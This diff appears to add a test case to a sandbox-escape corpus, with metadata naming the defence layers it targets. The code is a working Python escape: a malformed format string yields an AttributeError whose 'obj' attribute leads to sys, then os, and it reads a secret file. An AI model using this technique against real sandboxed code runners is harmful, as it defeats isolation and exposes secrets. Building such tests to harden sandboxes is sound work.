@@ -1,0 +1,15 @@
+# class: format strings
+# technique: a literal template that cannot be parsed as a whole
+# layers: analyzer, landlock, seccomp, identity
+# code: user
+# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
+# witness: secret
+# interpreter-gap: yes
+host = _items[0]["json"]
+import operator
+try:
+    "{0.__init__.__globals__[sys].nothing}{".format(quit)
+except AttributeError as error:
+    g = {"sys": operator.attrgetter(host["mark"][:0].join(["o", "bj"]))(error)}
+os = g["sys"].modules["os"]
+return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
